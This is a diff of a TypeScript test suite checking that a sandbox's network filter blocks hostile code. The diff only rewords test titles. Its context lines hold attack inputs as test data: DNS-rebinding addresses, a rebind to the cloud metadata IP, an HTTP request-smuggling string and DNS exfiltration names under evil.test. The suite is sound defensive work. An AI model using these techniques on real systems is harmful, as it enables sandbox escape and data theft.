@@ -1,4 +1,4 @@
-/** How hostile code in a sandbox tries to reach more than it may. */
+/** How hostile code in a sandbox tries to reach forbidden hosts. */
 import { describe, expect, it } from "vitest";
 import type { NetworkSetup } from "./setup.ts";
 
@@ -27,14 +27,14 @@ export function attackSuite(setup: () => NetworkSetup): void {
     ["an IPv4-mapped IPv6 address", "::ffff:127.0.0.2"],
     ["a translated IPv6 address", "64:ff9b::7f00:2"],
     ["a link-local IPv6 address", "fe80::1"],
-  ])("a name that resolves to %s leads nowhere", async (_, address) => {
+  ])("a name that resolves to %s reaches nothing", async (_, address) => {
     const { network, web } = setup();
     network.rules.push(`rebound.test:${String(web.port)}`);
     network.hosts.set("rebound.test", [address]);
     expect(await ask(get("rebound.test"))).toEqual([FORBIDDEN]);
   });
 
-  it("a name that resolves to something else the second time is judged again", async () => {
+  it("a name that resolves to another address the second time is checked again", async () => {
     const { network, web } = setup();
     network.rules.push(`turns.test:${String(web.port)}`);
     const answers = [["127.0.0.1"], ["169.254.169.254"]];
@@ -56,7 +56,7 @@ export function attackSuite(setup: () => NetworkSetup): void {
     "0",
     "web.test.evil.test",
     "evil-web.test",
-  ])("%s leads nowhere", async (host) => {
+  ])("%s reaches nothing", async (host) => {
     const before = setup().network.asked.length;
     const [line] = await ask(get(host));
     expect(line).toBe(FORBIDDEN);
@@ -72,7 +72,7 @@ export function attackSuite(setup: () => NetworkSetup): void {
     ]);
   });
 
-  it("no second request hides behind the first", async () => {
+  it("a second request cannot hide behind the first", async () => {
     const { requests } = setup();
     const head = "POST http://web.test:PORT/first HTTP/1.1\\r\\n";
     const hidden = "GET /hidden HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n";
@@ -106,7 +106,7 @@ for name in ${names}:
 print(found, missing)
 END`;
 
-    it("that are forbidden carry nothing out", async (context) => {
+    it("that are forbidden transfer no data", async (context) => {
       if (setup().mode === "proxy") context.skip("there is no name server inside");
       const before = setup().network.asked.length;
       const names = `["secret%d.aGVsbG8gd29ybGQ.evil.test" % n for n in range(50)]`;
@@ -114,7 +114,7 @@ END`;
       expect(setup().network.asked).toHaveLength(before);
     });
 
-    it("without end take no memory, and those in use go on working", async (context) => {
+    it("without end use no memory, and those in use continue to work", async (context) => {
       if (setup().mode === "proxy") context.skip("there is no name server inside");
       const { network, web, channel } = setup();
       network.rules.push(`*.flood.test:${String(web.port)}`);
